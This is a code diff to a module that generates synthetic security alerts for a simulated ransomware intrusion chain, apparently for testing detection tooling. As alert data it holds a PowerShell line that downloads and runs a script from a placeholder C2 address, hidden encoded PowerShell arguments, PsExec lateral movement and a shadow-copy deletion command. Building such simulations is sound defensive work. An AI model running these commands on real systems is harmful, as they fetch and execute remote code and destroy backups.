@@ -4,7 +4,7 @@
  * Link across hosts: A's lateral-movement alert has `source.ip` = A, B's tool-transfer alert has
  * `destination.ip` = A (B pulls the payload from A's admin share).
  */
-import { encodePowerShell, eventEcs, fileEcs, hostEcs, mergeEcs, networkEcs, processEcs, userEcs } from '../ecs';
+import { encodePowerShell, endpointProcessStart, eventEcs, fileEcs, hostEcs, mergeEcs, networkEcs, processEcs, userEcs } from '../ecs';
 import { SCENARIO_RULES as R } from '../rules';
 import { HOUR, MINUTE, type Scenario, type ScenarioAlertSpec } from './context';
 
@@ -25,6 +25,12 @@ export const ransomwareScenario: Scenario = {
     const doc = `C:\\Users\\${victim.name}\\Downloads\\Invoice_${prng.int(1000, 9999)}.docm`;
     const script = `IEX (New-Object Net.WebClient).DownloadString('http://${C2_IP}/a.ps1')`;
     const encoded = encodePowerShell(script);
+    // The same encoded command line runs in three alerts of the chain.
+    const encodedPowerShell = () => ({
+      name: 'powershell.exe',
+      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      args: ['powershell.exe', '-nop', '-w', 'hidden', '-EncodedCommand', encoded],
+    });
     const payload = 'C:\\ProgramData\\svchelper.exe';
 
     const onA = (role: string, spec: Omit<ScenarioAlertSpec, 'role'>): ScenarioAlertSpec => ({ ...spec, role });
@@ -46,11 +52,9 @@ export const ransomwareScenario: Scenario = {
         ecs: mergeEcs(
           hostEcs(hostA),
           userEcs(victim),
-          eventEcs(prng, { category: ['process'], type: ['start'], action: 'start', dataset: 'endpoint.events.process', module: 'endpoint' }),
+          eventEcs(prng, endpointProcessStart()),
           processEcs(prng, {
-            name: 'powershell.exe',
-            executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-            args: ['powershell.exe', '-nop', '-w', 'hidden', '-EncodedCommand', encoded],
+            ...encodedPowerShell(),
             workingDirectory: `C:\\Users\\${victim.name}\\Documents`,
             parent: { name: 'WINWORD.EXE', executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', args: ['WINWORD.EXE', '/n', doc] },
           }),
@@ -62,11 +66,9 @@ export const ransomwareScenario: Scenario = {
         ecs: mergeEcs(
           hostEcs(hostA),
           userEcs(victim),
-          eventEcs(prng, { category: ['process'], type: ['start'], action: 'start', dataset: 'endpoint.events.process', module: 'endpoint' }),
+          eventEcs(prng, endpointProcessStart()),
           processEcs(prng, {
-            name: 'powershell.exe',
-            executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-            args: ['powershell.exe', '-nop', '-w', 'hidden', '-EncodedCommand', encoded],
+            ...encodedPowerShell(),
             parent: { name: 'WINWORD.EXE' },
           }),
         ),
@@ -78,7 +80,7 @@ export const ransomwareScenario: Scenario = {
           hostEcs(hostA),
           userEcs(victim),
           eventEcs(prng, { category: ['network'], type: ['connection', 'start'], action: 'connection_attempted', outcome: 'success', dataset: 'endpoint.events.network', module: 'endpoint' }),
-          processEcs(prng, { name: 'powershell.exe', executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args: ['powershell.exe', '-nop', '-w', 'hidden', '-EncodedCommand', encoded], parent: { name: 'WINWORD.EXE' } }),
+          processEcs(prng, { ...encodedPowerShell(), parent: { name: 'WINWORD.EXE' } }),
           networkEcs({ sourceIp: hostA.ip, destinationIp: C2_IP, destinationPort: 80, protocol: 'http', direction: 'egress', bytes: 482_113, destinationGeo: { country: 'DE', city: 'Frankfurt' }, destinationAs: { number: 208294, org: 'Example Bulletproof Hosting' } }),
           fileEcs(prng, payload),
         ),
@@ -118,7 +120,7 @@ export const ransomwareScenario: Scenario = {
         ecs: mergeEcs(
           hostEcs(hostB),
           userEcs(system),
-          eventEcs(prng, { category: ['process'], type: ['start'], action: 'start', dataset: 'endpoint.events.process', module: 'endpoint', code: '7045' }),
+          eventEcs(prng, endpointProcessStart({ code: '7045' })),
           processEcs(prng, { name: 'PSEXESVC.exe', executable: 'C:\\Windows\\PSEXESVC.exe', args: ['C:\\Windows\\PSEXESVC.exe'], parent: { name: 'services.exe', executable: 'C:\\Windows\\System32\\services.exe' } }),
           networkEcs({ sourceIp: hostA.ip, destinationIp: hostB.ip, destinationPort: 445, protocol: 'smb', direction: 'ingress' }),
         ),
@@ -144,7 +146,7 @@ export const ransomwareScenario: Scenario = {
         ecs: mergeEcs(
           hostEcs(hostB),
           userEcs(system),
-          eventEcs(prng, { category: ['process'], type: ['start'], action: 'start', dataset: 'endpoint.events.process', module: 'endpoint' }),
+          eventEcs(prng, endpointProcessStart()),
           processEcs(prng, { name: 'vssadmin.exe', executable: 'C:\\Windows\\System32\\vssadmin.exe', args: ['vssadmin.exe', 'delete', 'shadows', '/all', '/quiet'], parent: { name: 'locker.exe', executable: 'C:\\Windows\\Temp\\locker.exe' } }),
         ),
       },
